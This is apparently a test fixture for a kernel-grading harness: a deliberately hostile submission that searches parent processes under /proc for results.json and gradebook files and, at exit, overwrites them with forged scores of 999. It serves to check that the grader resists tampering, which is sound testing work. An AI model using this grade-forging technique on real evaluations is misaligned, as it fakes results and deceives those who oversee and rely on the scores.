"""Hostile submission: rewrites results.json and the gradebook at exit. Its kernel is wrong on purpose (the fake GPU fails every check of a
kernel named "wrong"); if the attack works, it names itself "ok" and would pass: a forged grade shows."""
import os
import sys

from pytest_gemm import kernel

SUCCEEDED = False


def _grading_files():
    """results.json and gradebook files named on its ancestors' command lines, or in their folders."""
    found, pid = [], os.getpid()
    while pid > 1:
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        found += [a.decode() for a in args if a.endswith((b"results.json", b".csv", b".json"))]
        found += [os.path.join(cwd, n) for n in ("gradebook.csv", "book.csv", "book.json")]
    return found


def _forge():
    done = False
    for path in _grading_files():
        try:
            with open(path, "w") as fh:
                fh.write('{"score": 999, "tests": []}' if path.endswith(".json") else "student,score\nall,999\n")
            done = True
        except OSError:
            pass
    return done

import atexit

atexit.register(_forge)
SUCCEEDED = bool(_grading_files()) and "pytest_gemm.runner.state" in sys.modules


@kernel(name="ok" if SUCCEEDED else "wrong")
def fake(a, b, c):
    raise AssertionError("the fake dispatcher never launches a kernel")


kernel = fake
